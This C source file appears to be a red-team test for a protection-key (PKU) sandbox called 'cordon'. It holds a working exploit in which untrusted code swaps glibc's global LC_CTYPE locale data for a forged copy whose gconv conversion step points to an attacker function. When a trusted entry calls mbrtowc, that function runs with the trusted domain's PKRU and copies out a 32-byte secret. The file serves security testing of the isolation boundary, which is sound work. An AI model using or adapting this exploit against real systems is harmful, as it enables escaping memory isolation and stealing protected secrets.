// Trusted mbrtowc() calls a conversion function untrusted code chose.
//
// The trusted TCB keeps glibc's _nl_current_LC_CTYPE from the init-time
// TLS image: &_nl_global_locale.__locales[LC_CTYPE], a slot in libc's
// writable .data (untrusted). mbrtowc() (and mbstowcs, wcrtomb, btowc,
// mblen, printf's %ls/%lc ...) takes the locale's gconv functions from
// that __locale_data's private.ctype (a struct lc_ctype_data, whose first
// field is the gconv_fcts) and calls fcts->towc->__fct, which
// glibc demangles only when __shlib_handle is non-NULL. Untrusted code
// swaps in a copy of LC_CTYPE whose private.ctype is a gconv_fcts of its
// own, with a step whose __fct is the attacker's function: an ordinary
// trusted entry that decodes the caller's first character then runs it
// with the domain's PKRU (glibc 2.36 layouts: private at 32, __fct at 40).
//
//   tools/cordon-pku-run --kernel 6.1 -- build/redteam/gconv_step
//   tools/cordon-pku-run --kernel 6.12 -- build/redteam/gconv_step
#define _GNU_SOURCE
#include <ctype.h>
#include <dlfcn.h>
#include <locale.h>
#include <wchar.h>
#include "common.h"

static cordon_entry g_dec;
static uint8_t g_stolen[32];
static volatile uint32_t g_pkru = 1;

// An ordinary trusted entry: the code point of the caller's first character.
static uint64_t e_dec(uint64_t s, uint64_t len, uint64_t c, uint64_t d, uint64_t e) {
  (void)c; (void)d; (void)e;
  if (len == 0 || len > 16 || !cordon_is_untrusted_range((void*)s, len)) return (uint64_t)-1;
  char in[16];
  memcpy(in, (const void*)s, len);
  mbstate_t st;
  memset(&st, 0, sizeof st);
  wchar_t wc = 0;
  const size_t n = mbrtowc(&wc, in, len, &st);
  return n > len ? (uint64_t)-1 : (uint64_t)wc;
}

static int evil_fct(void* step, void* data, const unsigned char** in, const unsigned char* end, unsigned char** out,
                    size_t* irrev, int flush, int consume) {
  (void)step; (void)data; (void)in; (void)end; (void)out; (void)irrev; (void)flush; (void)consume;
  uint32_t pkru;
  __asm__ volatile("xor ecx, ecx; rdpkru" : "=a"(pkru) : : "rcx", "rdx");
  g_pkru = pkru;
  memcpy(g_stolen, g_secret, 32);
  return 6;  // __GCONV_ILLEGAL_INPUT: mbrtowc returns -1
}

struct step { void* shlib_handle; const char* modname; int counter; char* from; char* to; void* fct; char rest[256]; };
struct fcts { struct step* towc; size_t towc_nsteps; struct step* tomb; size_t tomb_nsteps; };
static struct step g_step;
static struct fcts g_fcts;
static uint64_t g_ctype_data[4];  // struct lc_ctype_data: fcts first
static uint64_t g_fake[1024];

static void** find_global_locale(void) {  // as in locale_decimal.c
  void** dup = (void**)duplocale(LC_GLOBAL_LOCALE);
  uintptr_t* tls = (uintptr_t*)__ctype_b_loc();
  for (int i = -64; i < 64; i++) {
    Dl_info di;
    if (dladdr((void*)tls[i], &di) == 0 || strstr(di.dli_fname, "libc.so") == NULL) continue;
    void** cand = (void**)tls[i];
    if (((uintptr_t)cand & 7) != 0 || cand == dup) continue;
    if (memcmp(cand, dup, 13 * sizeof(void*)) == 0) return cand;
  }
  return NULL;
}

int main(void) {
  setup(0);
  cordon_register(g_dom, e_dec, "decode", &g_dec);
  const uint64_t want = cordon_call(g_hash, 0, 0, 0, 0, 0);
  if (cordon_lockdown() != 0) { printf("lockdown failed\n"); return 1; }
  printf("ordinary call: 'A' -> %lld\n", (long long)cordon_call(g_dec, (uint64_t)"A", 1, 0, 0, 0));

  void** global = find_global_locale();
  if (global == NULL) { printf("no _nl_global_locale\n"); return 1; }
  uint64_t* real = (uint64_t*)global[LC_CTYPE];
  const uint32_t nstrings = *(uint32_t*)((char*)real + 48);
  printf("_nl_global_locale at %p, LC_CTYPE data %p, %u strings\n", (void*)global, (void*)real, nstrings);
  if (nstrings == 0 || 56 + 8 * (size_t)nstrings > sizeof g_fake) return 1;
  memcpy(g_fake, real, 56 + 8 * (size_t)nstrings);
  g_step.fct = (void*)evil_fct;  // shlib_handle NULL: not demangled
  g_step.counter = 1;
  g_fcts.towc = g_fcts.tomb = &g_step;
  g_fcts.towc_nsteps = g_fcts.tomb_nsteps = 1;
  g_ctype_data[0] = (uint64_t)&g_fcts;
  g_fake[4] = (uint64_t)g_ctype_data;  // private.ctype
  fflush(stdout);
  global[LC_CTYPE] = g_fake;
  const long long r = (long long)cordon_call(g_dec, (uint64_t)"B", 1, 0, 0, 0);
  global[LC_CTYPE] = real;
  printf("after the swap: 'B' -> %lld, evil __fct ran with PKRU %#x\n", r, g_pkru);
  dump("copied by the evil __fct", g_stolen, 32);
  printf("%s\n", fnv(g_stolen, 32) == want ? "fnv matches the secret: SECRET LEAKED" : "fnv does not match");
  return 0;
}
